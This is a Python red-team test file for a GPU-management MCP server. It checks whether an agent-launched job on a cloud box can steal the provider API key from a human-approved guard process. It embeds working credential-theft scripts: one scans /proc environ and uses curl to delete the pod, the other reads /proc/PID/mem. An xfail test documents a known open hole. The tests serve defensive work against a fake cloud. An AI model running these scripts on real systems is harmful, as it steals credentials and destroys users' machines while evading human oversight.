"""Red team: the on-box guard is armed with the human's approval and may carry the server's provider key to the
box. A job the agent launches on that box (no human needed) must not be able to pick the key up and destroy
machines with it: the key must not sit in the guard's /proc/PID/environ."""
# ruff: noqa: F811  (fixtures imported from tests.test_guard are redefined as parameters)

from __future__ import annotations

import secrets
from collections.abc import Iterator
from pathlib import Path

import pytest

from mcp_gpu.app import App
from mcp_gpu.config import Settings
from mcp_gpu.lifecycle.guard import GuardRules, arm_guard, guard_status, plan_guard
from mcp_gpu.tools.register_host import register_host_record
from tests.fake_providers import FakeCloud
from tests.jobhelpers import wait_until
from tests.security.human_gate_helpers import agent, text
from tests.sshd import Sshd
from tests.test_guard import POD, guard_dir, volume  # noqa: F401  (fixtures)

pytestmark = pytest.mark.anyio


@pytest.fixture
def runpod(monkeypatch: pytest.MonkeyPatch) -> Iterator[FakeCloud]:
    """The fake RunPod API with a key of this test's own (other guards on this machine hold other keys)."""
    key = "rp-redteam-" + secrets.token_hex(8)
    c = FakeCloud("runpod", key).start()
    c.add(POD)
    monkeypatch.setenv("RUNPOD_API_KEY", key)
    monkeypatch.setenv("MCP_GPU_RUNPOD_BASE_URL", c.url)
    try:
        yield c
    finally:
        c.stop()

STEAL = r"""
for e in /proc/[0-9]*/environ; do
  k=$(tr '\0' '\n' < "$e" 2>/dev/null | sed -n 's/^[A-Za-z_]*=\(rp-redteam-[0-9a-f]*\)$/\1/p' | head -n 1)
  [ -n "$k" ] && break
done
if [ -n "$k" ]; then
  printf 'header = "Authorization: Bearer %s"\n' "$k" | curl -s -o /dev/null -w 'stolen %{http_code}\n' -K - \
    -X DELETE "$URL/pods/$POD"
else
  echo "no key found"
fi
"""


async def test_a_job_on_the_box_cannot_take_the_guards_provider_key(ssh_app: App, tmp_path: Path, runs: Path,
                                                                    volume: Path, runpod: FakeCloud) -> None:
    register_host_record(ssh_app.store, "box", "testhost", "runpod", POD)
    plan = plan_guard(ssh_app, "box", GuardRules(max_hours=1, grace_s=5, interval_s=0.5))
    await arm_guard(ssh_app, plan, approved_by="test (the human approved the guard)", run_root=str(runs),
                    guard_dir=guard_dir(tmp_path))
    work = tmp_path / "work"
    work.mkdir()
    (work / "steal.sh").write_text(STEAL)
    try:
        await _steal(ssh_app, work, runs, runpod)
    finally:
        await guard_status(ssh_app, "box", disarm=True)


async def _steal(ssh_app: App, work: Path, runs: Path, runpod: FakeCloud) -> None:
    async with agent(ssh_app) as c:
        r = await c.call_tool("launch_detached", {
            "host": "box", "command": "bash steal.sh", "workdir": str(work), "name": "innocent", "backend": "nohup",
            "probe_s": 2, "run_root": str(runs), "env": {"URL": runpod.url, "POD": POD}})
        assert not r.is_error, text(r)
    run_dir = Path(r.structured_content["run_dir"])  # type: ignore[index]
    await wait_until(lambda: (run_dir / "exit_code").exists(), what="the job to end", timeout=30)
    out = (run_dir / "out.log").read_text()
    assert "no key found" in out, out
    assert not [q for q in runpod.requests if q.method == "DELETE"]


MEMSCAN = r"""
import os, re, sys
pat = re.compile(rb"rp-redteam-[0-9a-f]{16}")
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        if b"guard.sh" not in open(f"/proc/{pid}/cmdline", "rb").read():
            continue
        mem = open(f"/proc/{pid}/mem", "rb")
        for line in open(f"/proc/{pid}/maps"):
            lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
            if "rw" not in line.split()[1]:
                continue
            try:
                mem.seek(lo)
                m = pat.search(mem.read(hi - lo))
            except OSError:
                continue
            if m:
                print("stolen", m.group().decode()[:14])
                sys.exit(0)
    except OSError:
        continue
print("no key found")
"""


@pytest.mark.xfail(strict=True, reason="hole left: on a box WITHOUT a key of its own, the server's account key lives "
                                       "in the on-box guard's memory, readable by root on the box (/proc/PID/mem); "
                                       "closing it means never arming a stop with the account key")
async def test_a_job_on_the_box_cannot_read_the_key_from_the_guards_memory(ssh_app: App, tmp_path: Path, runs: Path,
                                                                          volume: Path, runpod: FakeCloud) -> None:
    import sys

    register_host_record(ssh_app.store, "box", "testhost", "runpod", POD)
    plan = plan_guard(ssh_app, "box", GuardRules(max_hours=1, grace_s=5, interval_s=0.5))
    await arm_guard(ssh_app, plan, approved_by="test (the human approved the guard)", run_root=str(runs),
                    guard_dir=guard_dir(tmp_path))
    work = tmp_path / "work"
    work.mkdir()
    (work / "scan.py").write_text(MEMSCAN)
    try:
        async with agent(ssh_app) as c:
            r = await c.call_tool("launch_detached", {
                "host": "box", "command": f"{sys.executable} scan.py", "workdir": str(work), "name": "scan",
                "backend": "nohup", "probe_s": 2, "run_root": str(runs)})
            assert not r.is_error, text(r)
        run_dir = Path(r.structured_content["run_dir"])  # type: ignore[index]
        await wait_until(lambda: (run_dir / "exit_code").exists(), what="the job to end", timeout=60)
        assert "no key found" in (run_dir / "out.log").read_text()
    finally:
        await guard_status(ssh_app, "box", disarm=True)


@pytest.fixture
def inbox_box(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Sshd]:
    """A box whose sessions carry the platform's own in-instance key (RunPod sets RUNPOD_API_KEY in a pod)."""
    from tests.conftest import _need_sshd

    _need_sshd()
    server = Sshd(tmp_path_factory.mktemp("inbox"), alias="inboxbox",
                  extra_env={"RUNPOD_API_KEY": "pod-scoped-" + secrets.token_hex(8)})
    server.start()
    try:
        yield server
    finally:
        server.stop()


async def test_a_box_with_its_own_key_never_gets_the_account_key(inbox_box: Sshd, home: Path, tmp_path: Path,
                                                                 runs: Path, volume: Path, runpod: FakeCloud) -> None:
    """Where the platform put a key of its own in the instance, the guard uses it: the server's account-wide key
    (which can delete every machine of the account) is dropped before the long-lived guard starts."""
    import sys

    app = App.open(Settings(home=home, ssh_config=(str(inbox_box.ssh_config),), connect_timeout=5,
                            command_timeout=30, keepalive=2))
    try:
        register_host_record(app.store, "box", "inboxbox", "runpod", POD)
        plan = plan_guard(app, "box", GuardRules(max_hours=1, grace_s=5, interval_s=0.5))
        assert "inside the instance when the box has it" in plan.key_source
        await arm_guard(app, plan, approved_by="test (the human approved the guard)", run_root=str(runs),
                        guard_dir=guard_dir(tmp_path))
        work = tmp_path / "work"
        work.mkdir()
        (work / "scan.py").write_text(MEMSCAN)
        try:
            async with agent(app) as c:
                r = await c.call_tool("launch_detached", {
                    "host": "box", "command": f"{sys.executable} scan.py", "workdir": str(work), "name": "scan",
                    "backend": "nohup", "probe_s": 2, "run_root": str(runs)})
                assert not r.is_error, text(r)
            run_dir = Path(r.structured_content["run_dir"])  # type: ignore[index]
            await wait_until(lambda: (run_dir / "exit_code").exists(), what="the job to end", timeout=60)
            assert "no key found" in (run_dir / "out.log").read_text()
        finally:
            await guard_status(app, "box", disarm=True)
    finally:
        await app.aclose()
